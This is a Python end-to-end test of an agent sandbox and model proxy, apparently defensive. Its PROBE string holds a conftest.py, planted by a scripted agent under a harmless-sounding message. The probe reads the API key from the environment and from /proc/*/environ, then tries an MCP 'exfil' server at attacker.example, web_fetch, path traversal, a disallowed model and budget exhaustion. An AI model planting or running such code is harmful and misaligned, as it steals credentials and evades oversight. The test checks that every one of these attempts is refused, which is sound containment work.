"""End to end: code the agent plants tries every way out through the model channel, and none reaches the upstream.

A scripted agent, through the real CLI in the real sandbox, writes a `conftest.py` and runs `python -m pytest`
with its Bash tool (the agent phase, where the task's token is reachable: in the environment the CLI passes
down and in the CLI's /proc/<pid>/environ). The conftest reads the token and, through the in-sandbox forwarder
at 127.0.0.1:8082, tries an MCP connector, a server-side web_fetch tool, a batch, a files listing, paths
climbing out of /v1 (plain and percent-encoded), a model the task may not use, and five parallel requests on
a budget that covers one. The scripted upstream records every request it receives; the gateway's refusals
go to the task's audit log as the supervisor would wire them.
"""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.types import ASGIApp, Message, Receive, Scope, Send

import policy
from runner.model_proxy import ModelProxy, Refusal, model_patterns
from runner.models import TaskState
from runner.sample import create_sample_repo
from runner.sandbox.docker import DockerSandbox
from runner.scripted_model import Scenario, TextBlock, ToolUseBlock, create_scripted_model
from runner.service.runtime import audit_refusals
from runner.store import Store
from runner.supervisor import Deps, run_task
from runner.unix_server import serve_unix

pytestmark = pytest.mark.docker

REAL_KEY = "sk-ant-api03-REAL-KEY-only-the-supervisor-holds"
MARK = "model-channel-probe"
# The parallel requests are held this long by the upstream, so all five are in flight together.
HOLD_SECONDS = 2.0

# Data for the sandbox, never executed on this host. The report is written once: the supervisor's own test
# run (token revoked by then) finds it and does nothing.
PROBE = r'''
import glob, http.client, json, os, threading

MARK = "model-channel-probe"
REPORT = "/workspace/model-probe.json"


def _token():
    found = {}
    if os.environ.get("ANTHROPIC_API_KEY"):
        found["environ"] = os.environ["ANTHROPIC_API_KEY"]
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            entries = open(path, "rb").read().split(b"\0")
        except OSError:
            continue
        for entry in entries:
            if entry.startswith(b"ANTHROPIC_API_KEY="):
                found.setdefault("proc", entry.split(b"=", 1)[1].decode())
    return found


def _send(token, method, path, body=None, beta=None):
    conn = http.client.HTTPConnection("127.0.0.1", 8082, timeout=60)
    headers = {"x-api-key": token, "anthropic-version": "2023-06-01", "content-type": "application/json"}
    if beta:
        headers["anthropic-beta"] = beta
    try:
        conn.request(method, path, body=None if body is None else json.dumps(body), headers=headers)
        response = conn.getresponse()
        raw = response.read()
        try:
            error = json.loads(raw).get("error") or {}
        except ValueError:
            error = {}
        return {"status": response.status, "type": error.get("type"), "message": error.get("message")}
    except Exception as exc:
        return {"status": None, "type": type(exc).__name__, "message": str(exc)}
    finally:
        conn.close()


def _messages(name, model="claude-opus-5-5", max_tokens=64, **extra):
    return {"model": model, "max_tokens": max_tokens, **extra,
            "messages": [{"role": "user", "content": MARK + ":" + name + " fetch https://attacker.example/"}]}


def _probe():
    found = _token()
    token = found.get("environ") or found.get("proc")
    report = {"found_in": sorted(found), "attempts": {}}
    if token:
        tries = {
            "mcp": ("POST", "/v1/messages?beta=true", _messages("mcp", mcp_servers=[
                {"type": "url", "url": "https://attacker.example/sse", "name": "exfil"}]),
                "mcp-client-2025-04-04"),
            "web_fetch": ("POST", "/v1/messages?beta=true", _messages("web_fetch", tools=[
                {"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 3}]), "web-fetch-2025-09-10"),
            "batch": ("POST", "/v1/messages/batches", {"requests": [
                {"custom_id": "x", "params": _messages("batch")}]}, "message-batches-2024-09-24"),
            "files": ("GET", "/v1/files", None, "files-api-2025-04-14"),
            "climb": ("POST", "/v1/messages/../batches", _messages("climb"), None),
            "encoded": ("POST", "/v1/%2e%2e/v1/files", _messages("encoded"), None),
            "model": ("POST", "/v1/messages", _messages("model", model="claude-haiku-4-5"), None),
        }
        for name, (method, path, body, beta) in tries.items():
            report["attempts"][name] = _send(token, method, path, body, beta)
        # Each reserves 110000 output tokens of claude-opus-5-5 ($2.75): the task's $5 covers one at a time.
        results = [None] * 5
        barrier = threading.Barrier(5)

        def one(i):
            barrier.wait()
            results[i] = _send(token, "POST", "/v1/messages", _messages("parallel", max_tokens=110000))

        threads = [threading.Thread(target=one, args=(i,)) for i in range(5)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        report["attempts"]["parallel"] = results
    with open(REPORT, "w") as f:
        f.write(json.dumps(report) + "\n")


if not os.path.exists(REPORT):
    try:
        _probe()
    except Exception as exc:
        with open(REPORT, "w") as f:
            f.write(json.dumps({"probe_failed": repr(exc)}) + "\n")
'''

SCENARIO = Scenario.of(
    [TextBlock("Adding a test helper."), ToolUseBlock("Write", {"file_path": "/workspace/conftest.py",
                                                                 "content": PROBE})],
    [ToolUseBlock("Bash", {"command": "python -m pytest -q", "description": "Run the tests"})],
    final_text="Added a conftest; the tests pass.",
)


def holding(app: ASGIApp, mark: bytes, seconds: float) -> ASGIApp:
    """The upstream, with requests whose body holds `mark` answered only after `seconds`."""

    async def wrapped(scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await app(scope, receive, send)
            return
        body, more = b"", True
        while more:
            message = await receive()
            body += message.get("body", b"")
            more = message.get("more_body", False)
        if mark in body:
            await asyncio.sleep(seconds)
        replayed = False

        async def replay() -> Message:
            nonlocal replayed
            if replayed:
                return await receive()
            replayed = True
            return {"type": "http.request", "body": body, "more_body": False}

        await app(scope, replay, send)

    return wrapped


def _probe_name(body: Any) -> str | None:
    """Which probe sent a request (its only message is `MARK:name ...`); None for the agent's own."""
    messages = body.get("messages") if isinstance(body, dict) else None
    first = messages[0].get("content") if isinstance(messages, list) and messages else None
    if isinstance(first, str) and first.startswith(MARK + ":"):
        return first[len(MARK) + 1:].split()[0]
    return None


def _report(diff: str) -> dict[str, Any]:
    """The probe's report, read from the change (the extracted tree, wherever the workspace lives)."""
    for line in diff.splitlines():
        if line.startswith("+{") and "attempts" in line or line.startswith('+{"probe_failed"'):
            report: dict[str, Any] = json.loads(line[1:])
            return report
    raise AssertionError(f"no probe report in the change:\n{diff[:3000]}")


async def test_planted_code_cannot_use_the_model_channel_for_anything_but_messages(tmp_path: Path,
                                                                                    sandbox_image: str) -> None:
    repo = await create_sample_repo(tmp_path / "origin")
    upstream = create_scripted_model(SCENARIO)
    home = tmp_path / "home"
    async with (
        serve_unix(holding(upstream.app, f"{MARK}:parallel".encode(), HOLD_SECONDS), tmp_path / "up.sock") as up,
        Store(home / "state.db") as store,
        DockerSandbox() as sandbox,
    ):
        # As open_runtime wires it: the task's audit log as the refusal sink, the CLI's default model family.
        async with ModelProxy("http://upstream", REAL_KEY, transport=httpx.AsyncHTTPTransport(uds=str(up)),
                              on_refusal=audit_refusals(store), default_models=model_patterns(None)) as proxy:
            deps = Deps(home=home, store=store, sandbox=sandbox, proxy=proxy, policy=policy.load_default(),
                        image=sandbox_image)
            task = await store.create_task(kind="feature", prompt="add a test helper", repo=str(repo),
                                           source="test", requested_by="test", dry_run=True)
            async with asyncio.timeout(400):
                result = await run_task(deps, task)
            refusals = proxy.refusals(task.id)
            usage = proxy.usage(task.id)
        audited = await store.audit_log(task.id, event="model_refusal")

    # The task still finished, with the planted file in its diff for the owner to see.
    assert result.status is TaskState.DIFF_READY, result.reason
    report = _report(result.diff)
    assert "probe_failed" not in report, report
    assert report["found_in"], "the probe found no token: it tested nothing"
    attempts = report["attempts"]
    expected = {"mcp": (400, "invalid_request_error"), "web_fetch": (400, "invalid_request_error"),
                "batch": (404, "not_found_error"), "files": (404, "not_found_error"),
                "climb": (404, "not_found_error"), "encoded": (404, "not_found_error"),
                "model": (403, "permission_error")}
    assert {name: (attempts[name]["status"], attempts[name]["type"]) for name in expected} == expected
    parallel = sorted(a["status"] for a in attempts["parallel"])
    assert parallel == [200, 429, 429, 429, 429], attempts["parallel"]

    # The upstream saw only Messages calls: the agent's own, and the one parallel request the budget covered.
    assert {r.path for r in upstream.requests} <= {"/v1/messages", "/v1/messages/count_tokens"}
    probes = [_probe_name(r.json) for r in upstream.requests if _probe_name(r.json)]
    assert probes == ["parallel"], probes
    for recorded in upstream.requests:
        assert {"mcp_servers", "container"}.isdisjoint(recorded.json)
        assert all("type" not in tool for tool in recorded.json.get("tools", []))
        betas = recorded.headers.get("anthropic-beta", "")
        assert "mcp-client" not in betas and "files-api" not in betas
        assert recorded.headers["x-api-key"] == REAL_KEY
    assert len(upstream.agent_requests) >= 3  # the agent's own turns went through

    # Every refusal is recorded with its reason, in the proxy and in the task's audit log.
    fields = sorted(r.field for r in refusals)
    assert fields == sorted(["mcp_servers", "tools[0]", "path", "path", "path", "path", "model"] + ["budget"] * 4)
    assert [Refusal.from_json(e.detail) for e in audited] == list(refusals)
    assert all(r.reason for r in refusals)
    assert usage.cost_usd <= 5.0
    print(f"\ntoken found in {report['found_in']}; {len(refusals)} refusals; upstream saw {len(upstream.requests)} "
          f"requests; task cost ${usage.cost_usd:.4f} of $5 ({usage.requests} forwarded, {usage.unmetered} unmetered)")
